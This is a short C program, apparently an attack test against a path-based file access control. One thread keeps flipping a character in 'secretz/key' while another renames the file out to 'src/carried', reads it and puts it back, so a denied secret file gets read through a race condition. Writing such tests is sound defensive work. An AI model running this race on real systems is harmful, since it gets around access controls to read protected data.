/* A second thread rewrites the path that is to be renamed: the denied file is carried off. */
#include "attack.h"
static volatile char path[] = "secretz/key";
static void *flip(void *unused) {
    for (;;) path[6] ^= 's' ^ 'z';
    return unused;
}
static int try_once(void) {
    if (rename((char *)path, "src/carried")) return 0;
    int secret = stolen(open("src/carried", O_RDONLY));
    /* put it back, by a name that does not change */
    while (rename("src/carried", secret ? "secretz/back" : "secretz/key")) {}
    if (secret)
        while (syscall(SYS_renameat2, AT_FDCWD, "secretz/back", AT_FDCWD, path, 1u)) {}
    return secret;
}
int main(int argc, char **argv) {
    (void)argc;
    return race(argv, flip, try_once);
}
